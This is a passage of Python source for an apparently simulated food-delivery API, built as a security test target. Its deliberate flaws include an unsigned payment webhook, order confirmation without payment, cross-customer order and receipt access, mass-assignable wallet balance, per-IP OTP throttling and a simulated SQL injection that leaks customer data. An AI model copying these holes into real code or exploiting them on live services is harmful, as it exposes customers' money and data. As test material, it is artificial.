"""Dine: a food-delivery and restaurant-ordering platform in the manner of FastAPI (422 detail lists, OAuth2 password form
at /token, HS256 bearer for customers and staff, session cookie for the restaurant dashboard, X-API-Key for points of sale,
phone + one-time code and opaque bearer for couriers). Port 80, no proxy; Lisboa, Porto, Braga; 14 days; legacy /v1 beside /v2."""
from types import SimpleNamespace
from heldout_core import *

SECRET = 'dine-prod-2021'; HOOKSECRET = 'whsec_8f2b11c07'; CITIES = dict(lisboa=(38.72, -9.14), porto=(41.15, -8.61), braga=(41.55, -8.42)); CUISINE = 'portuguese sushi pizza burgers indian vegan chinese mexican poke kebab'.split()
DISH = 'Bacalhau à Brás|Francesinha|Frango assado|Prego no pão|Caldo verde|Polvo à lagareiro|Pizza margherita|Pizza diavola|Sushi combo 12|Salmon nigiri|Smash burger|Veggie burger|Chicken tikka|Lamb korma|Dal makhani|Poke salmon|Poke tofu|Tacos al pastor|Burrito bowl|Kebab misto|Falafel wrap|Chow mein|Spring rolls|Pastel de nata|Mousse de chocolate|Água 0,5 l|Sumo de laranja|Sagres 33 cl|Coca-Cola|Batata frita'.split('|')
ALNUM = 'ABCDEFGHJKLMNPQRSTUVWXYZ23456789'; STREET = 'Rua das Flores|Av. da Liberdade|Rua de Santa Catarina|Rua do Souto|Travessa do Carmo|Largo da Sé|Rua Augusta|Rua Miguel Bombarda|Calçada da Estrela|Av. da Boavista'.split('|')


class E(Exception):
    def __init__(s, st, detail, h=None, lat=None): s.rs = Rs(st, {'detail': detail}, h, lat)


def err(loc, msg, typ): return dict(loc=loc, msg=msg, type=typ)


MISS, INT = ('field required', 'value_error.missing'), ('value is not a valid integer', 'type_error.integer')


def body(rq, spec):
    """pydantic model: 'cart_id:str tip?:float'"""
    try: j = json.loads(rq.body or b'')
    except ValueError: raise E(422, [err(['body', 0] if rq.body else ['body'], *(('Expecting value: line 1 column 1 (char 0)', 'value_error.jsondecode') if rq.body else MISS))])
    if not isinstance(j, dict): raise E(422, [err(['body'], 'value is not a valid dict', 'type_error.dict')])
    er, o = [], {}
    for f in spec.split():
        n, t = f.split(':'); opt, n = n.endswith('?'), n.rstrip('?'); v = j.get(n)
        if v is None:
            if not opt: er.append(err(['body', n], *MISS))
        elif t == 'int' and (isinstance(v, (bool, dict, list)) or not re.fullmatch(r'-?\d{1,18}', str(v))): er.append(err(['body', n], *INT))
        elif t == 'float' and (isinstance(v, bool) or not isinstance(v, (int, float)) or abs(v) > 1e12): er.append(err(['body', n], 'value is not a valid float', 'type_error.float'))
        elif t == 'str' and not isinstance(v, str): er.append(err(['body', n], 'str type expected', 'type_error.str'))
        elif t == 'list' and not isinstance(v, list): er.append(err(['body', n], 'value is not a valid list', 'type_error.list'))
        elif t == 'email' and not re.fullmatch(r'[^@\s]+@[^@\s]+\.\w+', str(v)): er.append(err(['body', n], 'value is not a valid email address', 'value_error.email'))
        else: o[n] = int(v) if t == 'int' else v
    if er: raise E(422, er)
    return o


def pint(v, name, where='path'):
    if not re.fullmatch(r'-?\d{1,15}', v or ''): raise E(422, [err([where, name], *INT)])
    return int(v)


def qint(rq, name, d, le=None, ge=1):
    if name not in rq.q: return d
    v = pint(rq.q[name], name, 'query')
    if v < ge: raise E(422, [err(['query', name], f'ensure this value is greater than or equal to {ge}', 'value_error.number.not_ge')])
    if le and v > le: raise E(422, [err(['query', name], f'ensure this value is less than or equal to {le}', 'value_error.number.not_le')])
    return v


def page(rq, v, f, size=20, le=100): p, n = qint(rq, 'page', 1), qint(rq, 'size', size, le); return 200, dict(items=[f(x) for x in v[(p - 1) * n:p * n]], total=len(v), page=p, size=n, pages=-(-len(v) // n))


def iso(t): return time.strftime('%Y-%m-%dT%H:%M:%S+00:00', time.gmtime(t))


class Dine(App):
    server = 'uvicorn'; base_lat = .016
    def __init__(s, rng, growth_from, fields_from):
        super().__init__(rng); s.growth_from, s.fields_from = growth_from, fields_from; s.cust, s.mail, s.rest, s.items, s.orders, s.carts, s.addr = {}, {}, {}, {}, {}, {}, {}; s.ctok, s.couriers, s.phone, s.otp, s.otpn = {}, {}, {}, {}, defaultdict(list)
        s.sess, s.dash, s.keys, s.staff, s.refresh = {}, {}, {}, {}, {}; s.coupons, s.gift, s.reviews, s.tickets, s.imports, s.payouts, s.refs = {}, {}, {}, {}, {}, {}, {}; s.pi, s.failed, s.shifts = {}, defaultdict(list), {}
        s.no, s.nc, s.ni, s.na, s.nr, s.nt, s.np, s.nsh = 500300, 10200, 7000, 30500, 90200, 4100, 8800, 1500; s.on_pay = lambda o, pi: None
    # --- making things
    def code(s, n): return ''.join(s.rng.choice(ALNUM) for _ in range(n))
    def new_cust(s, email, pw, name, phone, city, now, ref=None):
        s.nc += s.rng.randint(1, 4); u = s.cust[s.nc] = s.mail[email] = dict(id=s.nc, email=email, pw=pw, name=name, phone=phone, city=city, tier='basic', wallet=0., ref=name[:3].upper() + s.code(4), ads=[], pms=[], joined=now, by=ref, orders=[], since=now, scopes=['customer'], credits=0)
        s.refs[u['ref']] = u; return u
    def new_addr(s, u, street=None):
        s.na += s.rng.randint(1, 3); la, lo = CITIES[u['city']]
        s.addr[s.na] = dict(id=s.na, owner=u['id'], label='Casa' if not u['ads'] else 'Trabalho', street=street or f'{s.rng.choice(STREET)} {s.rng.randint(1, 240)}, {s.rng.randint(1, 8)}º {s.rng.choice(["Esq", "Dto"])}', city=u['city'], lat=round(la + s.rng.gauss(0, .02), 5), lng=round(lo + s.rng.gauss(0, .02), 5))
        u['ads'].append(s.na); return s.na
    def new_item(s, sl, name, price, cat='Pratos'): s.ni += 1; s.items[s.ni] = dict(id=s.ni, restaurant=sl, name=name, price=price, category=cat, available=True, image=f'https://img.dine.example/{s.ni}.webp'); s.rest[sl]['items'].append(s.ni); return s.ni
    def new_review(s, sl, u, stars, text, now): s.nr += s.rng.randint(1, 5); s.reviews[s.nr] = dict(id=s.nr, rest=sl, cid=u['id'], stars=stars, text=text, at=now); s.rest[sl]['revs'].insert(0, s.nr); return s.nr
    def new_order(s, u, sl, lines, now, addr, pay, tip=0., disc=0., wallet=0., note=''):
        s.no += s.rng.choice([1, 1, 1, 2, 3]); sub = sum(s.items[i]['price'] * q for i, q in lines)
        o = s.orders[s.no] = dict(id=s.no, cid=u['id'], rest=sl, lines=lines, sub=sub, fee=1.99, tip=tip, disc=disc, wallet=wallet, total=round(max(0, sub + 1.99 + tip - disc - wallet), 2), st='awaiting_payment', paid=None, pay=pay, addr=addr, at=now, t=now, courier=None, fulfil='restaurant', msgs=[], note=note, refund=0, city=s.rest[sl]['city'])
        u['orders'].insert(0, s.no)
        if any(c['shift'] and c['city'] == o['city'] for c in s.couriers.values()): o['fulfil'] = 'courier'
        return o
    def adv(s, o, now):
        """orders move on by themselves when nobody touches them"""
        while True:
            a = now - o['t']; st = o['st']
            nx = ('accepted', 1100 if 'act' in s.rest[o['rest']] else 300) if st == 'placed' else ('ready', 1200) if st == 'accepted' else ('delivered', 1300) if st == 'ready' and not o['courier'] else ('delivered', 3600) if st == 'picked_up' else ('expired', 3600) if st == 'awaiting_payment' else None
            if not nx or a < nx[1]: return o
            o['st'], o['t'] = nx[0], o['t'] + nx[1]
    # --- frame
    def handle(s, rq):
        hit = s.find(rq.m, rq.path); tpl = hit[0] if hit else rq.path
        try:
            if hit and any(a <= rq.now < b for a, b in s.down) and s.rng.random() < .85: r = Rs(503, 'upstream connect error or disconnect/reset before headers', ct='text/plain', lat=.004)
            elif hit is None: r = Rs(404, {'detail': 'Not Found'}, lat=.003)
            elif hit[1] is None: r = Rs(405, {'detail': 'Method Not Allowed'}, {'allow': ', '.join(m for m, _, x, _, _ in s.table if x == tpl)}, lat=.003)
            else: s.authenticate(rq, hit[2]); r = hit[1](rq, *hit[3])
        except E as e: r = e.rs
        except Exception: r = Rs(500, 'Internal Server Error', ct='text/plain; charset=utf-8')
        if isinstance(r, tuple): r = Rs(*r)
        if r.lat is None: r.lat = s.base_lat * s.rng.lognormvariate(0, .5)
        return r, tpl
    def authenticate(s, rq, kw):
        need = kw.get('auth', 'cust'); a = rq.h.get('authorization', '')
        if need == 'none': return
        if need in ('cust', 'staff'):
            if not a.startswith('Bearer '): raise E(401, 'Not authenticated', {'WWW-Authenticate': 'Bearer'})
            c = jwt_ok(a[7:], SECRET)
            if not c or not str(c.get('sub', '')).isdigit(): raise E(401, 'Could not validate credentials', {'WWW-Authenticate': 'Bearer'})
            if c.get('exp', 0) < rq.now: raise E(401, 'Token has expired', {'WWW-Authenticate': 'Bearer'})
            rq.u = s.cust.get(int(c['sub'])) or s.staff.get(int(c['sub']))
            if not rq.u: raise E(401, 'Could not validate credentials', {'WWW-Authenticate': 'Bearer'})
            rq.scopes = c.get('scopes', []); rq.user = ('cust:' if 'name' in rq.u else 'staff:') + str(rq.u['id'])
            if need == 'staff' and not set(kw.get('scopes', ('support', 'admin'))) & set(rq.scopes): raise E(403, 'Not enough permissions', {'WWW-Authenticate': 'Bearer scope="%s"' % kw.get('scopes', ('support',))[-1]})
        elif need == 'courier':
            rq.u = s.ctok.get(a[7:]) if a.startswith('Bearer ') else None
            if not rq.u: raise E(401, 'Invalid courier session')
            rq.user = f'courier:{rq.u["id"]}'
        elif need == 'dash':
            m = re.search(r'dine_session=([\w-]+)', rq.h.get('cookie', '')); v = s.sess.get(m.group(1)) if m else None
            if not v or rq.now - v[1] > 14 * HOUR: raise E(401, 'Session expired, please sign in again')
            rq.u = v[0]; rq.user = f'dash:{rq.u["email"]}'
            if kw.get('owner') and rq.u['role'] != 'owner': raise E(403, 'Only owners can do this')
        elif need == 'pos':
            rq.u = s.keys.get(rq.h.get('x-api-key', ''))
            if not rq.u: raise E(403 if 'x-api-key' not in rq.h else 401, 'Not authenticated' if 'x-api-key' not in rq.h else 'Invalid API key')
            rq.user = f'key:{rq.u["name"]}'
            if kw.get('kind', 'pos') != rq.u['kind']: raise E(403, 'Key has no access to this resource')
    # --- sign-in
    def mint(s, u, now, scopes):
        k = s.rng.randbytes(24).hex(); s.refresh[k] = u
        return Rs(200, dict(access_token=jwt(dict(sub=str(u['id']), scopes=scopes, iat=int(now), exp=int(now) + 3600, jti=s.rng.randbytes(6).hex()), SECRET), token_type='bearer', expires_in=3600, refresh_token=k, scope=' '.join(scopes)), {'Cache-Control': 'no-store'}, lat=.18 * s.rng.lognormvariate(0, .2))
    @route('POST', '/token', auth='none')
    def token(s, rq):
        f = rq.form
        if f.get('grant_type') == 'refresh_token':
            u = s.refresh.pop(f.get('refresh_token', ''), None)
            if not u: raise E(401, 'Invalid refresh token', {'WWW-Authenticate': 'Bearer'})
            r = s.mint(u, rq.now, u['scopes']); r.lat = .03; return r
        miss = [err(['body', n], *MISS) for n in ('username', 'password') if not f.get(n)]
        if miss: raise E(422, miss)
        n = f['username'].lower(); s.failed[n] = [t for t in s.failed[n] if rq.now - t < 900]
        if len(s.failed[n]) >= 10: raise E(429, 'Too many attempts, try again later', {'Retry-After': '900'})
        u = s.mail.get(n)
        if not u or u['pw'] != f['password']: s.failed[n].append(rq.now); raise E(401, 'Incorrect username or password', {'WWW-Authenticate': 'Bearer'}, lat=.19)
        return s.mint(u, rq.now, u['scopes'])
    @route('POST', '/v2/customers', auth='none')
    def register(s, rq):
        j = body(rq, 'email:email password:str name:str phone:str city:str referral_code?:str')
        if j['email'] in s.mail: raise E(400, 'REGISTER_USER_ALREADY_EXISTS')
        if len(j['password']) < 8: raise E(422, [err(['body', 'password'], 'ensure this value has at least 8 characters', 'value_error.any_str.min_length')])
        if j['city'] not in CITIES: raise E(422, [err(['body', 'city'], "value is not a valid enumeration member; permitted: 'lisboa', 'porto', 'braga'", 'type_error.enum')])
        u = s.new_cust(j['email'], j['password'], j['name'], j['phone'], j['city'], rq.now, j.get('referral_code')); return Rs(201, dict(s.me_(u)), lat=.2)
    @route('GET', '/v2/auth/email-available', auth='none')
    def avail(s, rq):
        if '@' not in rq.q.get('email', ''): raise E(422, [err(['query', 'email'], 'value is not a valid email address', 'value_error.email')])
        return 200, dict(email=rq.q['email'], available=rq.q['email'].lower() not in s.mail)
    @route('POST', '/v2/auth/forgot-password', auth='none')
    def forgot(s, rq): body(rq, 'email:email'); return Rs(202, None)
    # --- restaurants
    def rbrief(s, x, now):
        r = s.rest[x]; o = dict(slug=x, name=r['name'], cuisine=r['cuisine'], rating=r['rating'], eta_min=r['eta'], is_open=True, min_order=8.0)
        if now > s.fields_from: o.update(delivery_fee=1.99, tags=r['tags'])
        return o
    @route('GET', '/v2/cities', auth='none')
    def cities(s, rq): return 200, [dict(slug=c, lat=v[0], lng=v[1]) for c, v in CITIES.items()]
    @route('GET', '/v2/restaurants', auth='none')
    def rlist(s, rq):
        c = rq.q.get('city')
        if c not in CITIES: raise E(422, [err(['query', 'city'], *(("value is not a valid enumeration member; permitted: 'lisboa', 'porto', 'braga'", 'type_error.enum') if c else MISS))])
        return page(rq, [x for x, v in s.rest.items() if v['city'] == c and rq.q.get('cuisine', v['cuisine']) == v['cuisine']], lambda x: s.rbrief(x, rq.now))
    @route('GET', '/v2/restaurants/nearby', auth='none')
    def nearby(s, rq):
        try: la, lo, rad = (float(rq.q[k]) for k in ('lat', 'lng', 'radius_km'))
        except (KeyError, ValueError): raise E(422, [err(['query', k], *(MISS if k not in rq.q else ('value is not a valid float', 'type_error.float'))) for k in ('lat', 'lng', 'radius_km') if not re.fullmatch(r'-?[\d.]+', rq.q.get(k, ''))])
        v = [x for x, v in s.rest.items() if abs(CITIES[v['city']][0] - la) * 111 < rad + 3]; return Rs(200, dict(items=[s.rbrief(x, rq.now) for x in v[:20 if rad < 50 else 500]], radius_km=rad), lat=min(12, .03 + (rad / 60) ** 1.5 * .02) * s.rng.lognormvariate(0, .2))
    @route('GET', '/v2/home')
    def home(s, rq):
        v = [x for x, v in s.rest.items() if v['city'] == rq.u['city']]
        return 200, dict(banners=[dict(id=7, title='Free delivery until Sunday')], again=[s.orders[o]['rest'] for o in rq.u['orders'][:3]], popular=[s.rbrief(x, rq.now) for x in v[:12]], nearby=[s.rbrief(x, rq.now) for x in v[12:20]])
    def r_(s, sl):
        if sl not in s.rest: raise E(404, 'Restaurant not found')
        return s.rest[sl]
    @route('GET', '/v2/restaurants/{slug}', auth='none')
    def rone(s, rq, sl): r = s.r_(sl); return 200, dict(s.rbrief(sl, rq.now), address=r['street'], city=r['city'], hours=[['12:00', '15:00'], ['18:30', '23:00']], reviews=len(r['revs']), payment=['card', 'cash', 'wallet'])
    @route('GET', '/v2/restaurants/{slug}/menu', auth='none')
    def menu(s, rq, sl): r = s.r_(sl); return 200, dict(restaurant=sl, currency='EUR', items=[{k: v for k, v in s.items[i].items() if k != 'restaurant'} for i in r['items']])
    @route('GET', '/v2/menu-items/{id}', auth='none')
    def mitem(s, rq, i):
        i = pint(i, 'item_id')
        if i not in s.items: raise E(404, 'Menu item not found')
        return 200, dict(s.items[i], allergens=['gluten'] if i % 3 else [], options=[dict(name='Extra', price=.8)])
    @route('GET', '/v2/restaurants/{slug}/reviews', auth='none')
    def revs(s, rq, sl):
        r = s.r_(sl)
        def one(k):
            v = s.reviews[k]; u = s.cust[v['cid']]; o = dict(id=k, stars=v['stars'], text=v['text'], author=u['name'].split()[0] + '.', created_at=iso(v['at']))
            if s.growth_from and rq.now > s.growth_from: o['customer'] = dict(id=u['id'], email=u['email'], phone=u['phone'], full_name=u['name'], default_address=s.addr[u['ads'][0]]['street'] if u['ads'] else None)
            return o
        return page(rq, r['revs'], one, 8, 50)
    @route('GET', '/v2/search', auth='none')
    def search(s, rq):
        q = rq.q.get('q', '')
        if not q: raise E(422, [err(['query', 'q'], *MISS)])
        x = re.sub(r'/\*.*?\*/', ' ', q.lower())
        if "'" in q:
            if re.search(r"union\s+(all\s+)?select", x) and 'null,null,null' not in x and x.rstrip().endswith('--'):
                if 'customers' in x:
                    off = int(re.search(r'offset (\d+)', x).group(1)) if 'offset' in x else 0; v = sorted(s.cust.values(), key=lambda u: u['id'])[off:off + 20]
                    return 200, dict(items=[dict(slug=u['email'], name=u['phone'], cuisine='$2b$12$' + hashlib.sha256(u['pw'].encode()).hexdigest()[:40], rating=0, eta_min=u['id']) for u in v], total=len(v))
                return 200, dict(items=[dict(slug='PostgreSQL 15.4', name='dine', cuisine='public', rating=0, eta_min=1)], total=1)
            if q.count("'") % 2: raise ValueError(q)
            if 'pg_sleep' in x: return Rs(200, dict(items=[], total=0), lat=5.03)
        v = [k for k, r in s.rest.items() if x in r['name'].lower() or x in r['cuisine'] or any(x in s.items[i]['name'].lower() for i in r['items'][:8])]; v = [k for k in v if rq.q.get('city', s.rest[k]['city']) == s.rest[k]['city']]
        return 200, dict(items=[s.rbrief(k, rq.now) for k in v[:15]], total=len(v))
    # --- carts and orders
    def cart_(s, rq, k):
        c = s.carts.get(k)
        if not c or c['cid'] != rq.u['id']: raise E(404, 'Cart not found')
        return c
    def cview(s, k, c):
        sub = round(sum(s.items[i]['price'] * q for i, q in c['lines']), 2)
        return dict(id=k, restaurant=c['rest'], items=[dict(item_id=i, name=s.items[i]['name'], quantity=q, price=s.items[i]['price']) for i, q in c['lines']], subtotal=sub, discount=round(c['disc'] * sub, 2), coupon=c['coupon'])
    def addline(s, c, i, q):
        if i not in s.items or s.items[i]['restaurant'] != c['rest']: raise E(404, 'Menu item not found')
        if not s.items[i]['available']: raise E(409, 'Item is not available right now')
        if not 1 <= q <= 60: raise E(422, [err(['body', 'quantity'], 'ensure this value is greater than or equal to 1', 'value_error.number.not_ge')])
        c['lines'].append((i, q))
    @route('POST', '/v2/carts')
    def ncart(s, rq):
        j = body(rq, 'restaurant:str items?:list'); s.r_(j['restaurant']); k = uid(s.rng); c = s.carts[k] = dict(cid=rq.u['id'], rest=j['restaurant'], lines=[], coupon=None, disc=0)
        for x in j.get('items', []): s.addline(c, x['item_id'], x['quantity'])
        return 201, s.cview(k, c)
    @route('POST', '/v2/carts/{id}/items')
    def citem(s, rq, k): c = s.cart_(rq, k); j = body(rq, 'item_id:int quantity:int note?:str'); s.addline(c, j['item_id'], j['quantity']); return 201, s.cview(k, c)
    @route('GET', '/v2/carts/{id}')
    def gcart(s, rq, k): return 200, s.cview(k, s.cart_(rq, k))
    @route('POST', '/v2/carts/{id}/coupon')
    def coupon(s, rq, k):
        c = s.cart_(rq, k); j = body(rq, 'code:str'); p = s.coupons.get(j['code'])
        if not p: raise E(404, 'Coupon does not exist')
        if p['until'] < rq.now: raise E(409, 'Coupon has expired')
        c['coupon'], c['disc'] = j['code'], p['pct'] / 100; return 200, s.cview(k, c)
    def oview(s, o):
        return dict(id=o['id'], restaurant=o['rest'], status=o['st'], fulfilment=o['fulfil'], items=[dict(item_id=i, name=s.items[i]['name'], quantity=q, price=s.items[i]['price']) for i, q in o['lines']], subtotal=round(o['sub'], 2), delivery_fee=o['fee'], tip=o['tip'], discount=round(o['disc'], 2), wallet_used=o['wallet'], total=o['total'], refunded=o['refund'], payment=dict(method=o['pay'], status=o['paid'] or 'unpaid'), address_id=o['addr'], note=o['note'], created_at=iso(o['at']))
    @route('POST', '/v2/orders')
    def norder(s, rq):
        j = body(rq, 'cart_id:str address_id:int payment:str tip?:float use_wallet?:bool note?:str'); c = s.cart_(rq, j['cart_id'])
        if not c['lines']: raise E(409, 'Cart is empty')
        if j['address_id'] not in rq.u['ads']: raise E(404, 'Address not found')
        if j['payment'] not in ('card', 'cash'): raise E(422, [err(['body', 'payment'], "value is not a valid enumeration member; permitted: 'card', 'cash'", 'type_error.enum')])
        sub = sum(s.items[i]['price'] * q for i, q in c['lines'])
        if sub < 8: raise E(409, 'Order is below the minimum of 8.00')
        w = min(rq.u['wallet'], sub) if j.get('use_wallet') else 0; rq.u['wallet'] -= w; o = s.new_order(rq.u, c['rest'], c['lines'], rq.now, j['address_id'], j['payment'], j.get('tip', 0.), c['disc'] * sub, w, j.get('note', '')); del s.carts[j['cart_id']]
        return Rs(201, s.oview(o), lat=.06)
    def mine(s, rq, i, staff=True):
        o = s.orders.get(pint(i, 'order_id'))
        if not o or o['cid'] != rq.u['id']: raise E(404, 'Order not found')
        return s.adv(o, rq.now)
    @route('POST', '/v2/orders/{id}/pay')
    def pay(s, rq, i):
        o = s.mine(rq, i); j = body(rq, 'payment_method_id:str')
        if j['payment_method_id'] not in rq.u['pms']: raise E(404, 'Payment method not found')
        if o['st'] != 'awaiting_payment': raise E(409, 'Order is not awaiting payment')
        pi = 'pi_' + s.rng.randbytes(9).hex(); s.pi[pi] = o['id']; o['paid'] = o['paid'] or 'processing'; s.on_pay(o['id'], pi)
        return Rs(202, dict(order_id=o['id'], payment_intent=pi, status='processing', next_action=s.rng.choice([None, None, 'sca_redirect'])), lat=.35 * s.rng.lognormvariate(0, .4))
    @route('POST', '/v2/orders/{id}/confirm')
    def confirm(s, rq, i):
        o = s.mine(rq, i)
        if o['st'] != 'awaiting_payment':
            if o['st'] == 'placed': return 200, s.oview(o)
            raise E(409, 'Order cannot be confirmed')
        if o['paid'] == 'failed': raise E(402, 'Payment failed')
        if o['paid'] == 'processing': raise E(409, 'Payment is still processing')
        o['st'], o['t'] = 'placed', rq.now                     # the flaw: an order by card with no payment at all passes too
        return 200, s.oview(o)
    @route('POST', '/webhooks/payments', auth='none')
    def hook(s, rq):
        sig = rq.h.get('paystream-signature')
        if sig is not None and sig != hmac.new(HOOKSECRET.encode(), rq.body or b'', hashlib.sha256).hexdigest():
            raise E(400, 'Invalid signature')                  # the flaw: no signature at all passes
        j = body(rq, 'type:str id:str data:dict'); oid = s.pi.get(str(j['data'].get('payment_intent'))) or j['data'].get('metadata', {}).get('order_id'); o = s.orders.get(oid)
        if not o: raise E(404, 'Unknown payment intent')
        if o['st'] == 'awaiting_payment': o['paid'] = 'paid' if j['type'] == 'payment_intent.succeeded' else 'failed'
        return 200, {'received': True}
    @route('GET', '/v2/orders')
    def olist(s, rq): return page(rq, rq.u['orders'], lambda k: dict(id=k, restaurant=s.orders[k]['rest'], total=s.orders[k]['total'], status=s.adv(s.orders[k], rq.now)['st'], created_at=iso(s.orders[k]['at'])), 10, 50)
    @route('GET', '/v2/orders/{id}')
    def oone(s, rq, i): return 200, s.oview(s.mine(rq, i))
    def pos_(s, o, now): c = s.couriers.get(o['courier']); return dict(id=c['id'], name=c['name'].split()[0], vehicle=c['vehicle'], lat=c['lat'], lng=c['lng']) if c else None
    def any_order(s, i):
        o = s.orders.get(pint(i, 'order_id'))
        if not o: raise E(404, 'Order not found')
        return o
    @route('GET', '/v2/orders/{id}/tracking')
    def track(s, rq, i):
        o = s.adv(s.any_order(i), rq.now)                      # the flaw: any customer's order
        a = s.addr[o['addr']]
        return 200, dict(order_id=o['id'], status=o['st'], eta_min=max(1, 38 - int((rq.now - o['at']) / 60)) if o['st'] not in ('delivered', 'cancelled') else 0, courier=s.pos_(o, rq.now), dropoff=dict(street=a['street'], lat=a['lat'], lng=a['lng']), updated_at=iso(rq.now))
    @route('GET', '/v2/orders/{id}/live')
    def live(s, rq, i): o = s.mine(rq, i); return 200, dict(order_id=o['id'], status=o['st'], seq=int(rq.now - o['at']), courier=s.pos_(o, rq.now), eta=iso(o['at'] + 2300))
    @route('GET', '/v2/orders/{id}/receipt')
    def receipt(s, rq, i):
        o = s.any_order(i)                                     # the flaw again
        if o['st'] in ('awaiting_payment', 'expired'): raise E(409, 'No receipt yet')
        return Rs(200, b'%PDF-1.7\n' + f'{s.cust[o["cid"]]["name"]} {s.addr[o["addr"]]["street"]} {o["total"]}'.encode() + random.Random(o['id']).randbytes(1500), {'Content-Disposition': f'inline; filename="receipt-{o["id"]}.pdf"'}, ct='application/pdf', lat=.08)
    @route('POST', '/v2/orders/{id}/cancel')
    def cancel(s, rq, i):
        o = s.mine(rq, i)
        if o['st'] not in ('awaiting_payment', 'placed'): raise E(409, 'Order can no longer be cancelled')
        o['st'] = 'cancelled'; return 200, s.oview(o)
    @route('POST', '/v2/orders/{id}/refund-request')
    def refreq(s, rq, i):
        o = s.mine(rq, i); j = body(rq, 'reason:str items?:list comment?:str')
        if o['st'] != 'delivered': raise E(409, 'Order has not been delivered')
        if o['refund']: raise E(409, 'A refund was already requested')
        auto = o['total'] < 35
        if auto: o['refund'] = round(o['total'] * .9, 2); rq.u['wallet'] += o['refund']
        s.nt += 1; s.tickets[s.nt] = dict(id=s.nt, cid=rq.u['id'], oid=o['id'], subject=j['reason'], st='auto_resolved' if auto else 'open', at=rq.now); return 201, dict(ticket_id=s.nt, status=s.tickets[s.nt]['st'], refunded=o['refund'], to='wallet')
    @route('POST', '/v2/orders/{id}/rating')
    def rate(s, rq, i):
        o = s.mine(rq, i); j = body(rq, 'stars:int courier_stars?:int text?:str')
        if not 1 <= j['stars'] <= 5: raise E(422, [err(['body', 'stars'], 'ensure this value is less than or equal to 5', 'value_error.number.not_le')])
        if o.get('rated'): raise E(409, 'Order was already rated')
        o['rated'] = True; return 201, dict(id=s.new_review(o['rest'], rq.u, j['stars'], j.get('text', ''), rq.now), stars=j['stars'])
    @route('GET', '/v2/orders/{id}/messages')
    def msgs(s, rq, i): return 200, dict(items=s.mine(rq, i)['msgs'])
    @route('POST', '/v2/orders/{id}/messages')
    def nmsg(s, rq, i): o = s.mine(rq, i); m = {'from': 'customer', 'text': body(rq, 'text:str')['text'], 'at': iso(rq.now)}; o['msgs'].append(m); return 201, m
    # --- account
    def me_(s, u): return dict(id=u['id'], email=u['email'], name=u['name'], phone=u['phone'], city=u['city'], loyalty_tier=u['tier'], wallet_balance=round(u['wallet'], 2), referral_code=u['ref'], addresses=len(u['ads']))
    @route('GET', '/v2/me')
    def me(s, rq): return 200, s.me_(rq.u)
    @route('PATCH', '/v2/me')
    def pme(s, rq):
        j = body(rq, 'name?:str phone?:str city?:str email?:email')
        for k, v in rq.json.items():                           # the flaw: every known attribute is set
            k = dict(loyalty_tier='tier', wallet_balance='wallet').get(k, k)
            if k in rq.u and k not in ('id', 'pw', 'orders', 'ads', 'pms'): rq.u[k] = v
        return 200, s.me_(rq.u)
    @route('GET', '/v2/me/addresses')
    def ads(s, rq): return 200, [{k: v for k, v in s.addr[a].items() if k != 'owner'} for a in rq.u['ads']]
    @route('POST', '/v2/me/addresses')
    def nad(s, rq): j = body(rq, 'label:str street:str city:str'); return 201, {k: v for k, v in s.addr[s.new_addr(rq.u, j['street'])].items() if k != 'owner'}
    @route('GET', '/v2/me/payment-methods')
    def pms(s, rq): return 200, [dict(id=p, brand='visa' if int(p[-1], 16) % 2 else 'mastercard', last4=f'{int(p[3:7], 16) % 10000:04}', exp='11/28') for p in rq.u['pms']]
    @route('POST', '/v2/me/payment-methods')
    def npm(s, rq): body(rq, 'provider_token:str'); rq.u['pms'].append('pm_' + s.rng.randbytes(6).hex()); return 201, dict(id=rq.u['pms'][-1])
    @route('GET', '/v2/me/referral')
    def ref(s, rq): n = sum(u['by'] == rq.u['ref'] for u in s.cust.values()); return 200, dict(code=rq.u['ref'], invited=n, credits=5. * rq.u['credits'])
    @route('POST', '/v2/referrals/redeem')
    def redeem(s, rq):
        j = body(rq, 'code:str'); v = s.refs.get(j['code'])
        if not v or v is rq.u: raise E(404, 'Referral code does not exist')
        if rq.u.get('redeemed'): raise E(409, 'Already redeemed')
        rq.u['redeemed'] = True; rq.u['wallet'] += 5; v['wallet'] += 5; v['credits'] += 1; return 200, dict(wallet_balance=rq.u['wallet'], credited=5.0)
    @route('POST', '/v2/gift-cards')
    def bgift(s, rq): j = body(rq, 'amount:int recipient:email payment_method_id:str'); k = 'D7' + s.code(5); s.gift[k] = j['amount']; return 201, dict(code=k, amount=j['amount'])
    @route('GET', '/v2/gift-cards/{code}')
    def ggift(s, rq, k):
        if k not in s.gift: raise E(404, 'Gift card not found')
        return 200, dict(code=k, balance=s.gift[k], currency='EUR')
    @route('POST', '/v2/gift-cards/{code}/redeem')
    def rgift(s, rq, k):
        if not s.gift.get(k): raise E(404, 'Gift card not found')
        rq.u['wallet'] += s.gift[k]; s.gift[k] = 0; return 200, dict(wallet_balance=rq.u['wallet'])
    # --- couriers
    @route('POST', '/v2/courier/auth/code', auth='none')
    def ocode(s, rq):
        p = body(rq, 'phone:str')['phone']
        if p in s.phone: s.otp[p] = (f'{s.rng.randint(0, 9999):04}', rq.now)
        return 202, dict(sent=True, expires_in=300)
    @route('POST', '/v2/courier/auth/verify', auth='none')
    def over(s, rq):
        j = body(rq, 'phone:str code:str device_id?:str'); k = (j['phone'], rq.cl.ip); s.otpn[k] = [x for x in s.otpn[k] if rq.now - x < 600] + [rq.now]
        if len(s.otpn[k]) > 6:                                 # the flaw: counted by address
            raise E(429, 'Too many attempts', {'Retry-After': '300'})
        o = s.otp.get(j['phone'])
        if not o or o[0] != j['code'] or rq.now - o[1] > 300: raise E(400, 'Invalid or expired code')
        s.otpn[k] = []; del s.otp[j['phone']]; t = 'crt_' + s.rng.randbytes(18).hex(); s.ctok[t] = s.phone[j['phone']]; return 200, dict(token=t, courier=s.cview_(s.phone[j['phone']]))
    def cview_(s, c): return dict(id=c['id'], name=c['name'], city=c['city'], vehicle=c['vehicle'], on_shift=bool(c['shift']), balance=round(c['balance'], 2), iban_tail=c['iban'][-4:])
    @route('GET', '/v2/courier/me', auth='courier')
    def cme(s, rq): return 200, s.cview_(rq.u)
    @route('POST', '/v2/courier/shifts', auth='courier')
    def cshift(s, rq): body(rq, 'city:str'); s.nsh += 1; rq.u['shift'] = s.nsh; return 201, dict(id=s.nsh, started_at=iso(rq.now))
    @route('PATCH', '/v2/courier/shifts/{id}', auth='courier')
    def eshift(s, rq, i):
        if pint(i, 'shift_id') != rq.u['shift']: raise E(409, 'Shift is not active')
        rq.u['shift'] = None; return 200, dict(id=int(i), ended_at=iso(rq.now))
    def open_offers(s, c, now):
        out = []
        for k in list(s.orders)[-60:]:
